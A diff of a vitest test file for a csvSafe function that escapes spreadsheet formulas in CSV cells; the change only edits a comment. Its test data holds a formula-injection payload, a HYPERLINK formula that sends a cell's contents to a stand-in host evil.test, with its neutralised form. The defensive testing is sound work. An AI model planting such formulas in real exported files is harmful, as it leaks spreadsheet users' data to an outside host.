@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { csvSafe } from '@app/domain';
 
-/** Issue 15, finding 2: every CSV cell that a spreadsheet would run as a formula is neutralised. */
+/** Every CSV cell that a spreadsheet would run as a formula is neutralised. */
 describe('csvSafe', () => {
   it.each([
     ['=HYPERLINK("http://evil.test/?d="&A1,"Click")', `'=HYPERLINK("http://evil.test/?d="&A1,"Click")`],
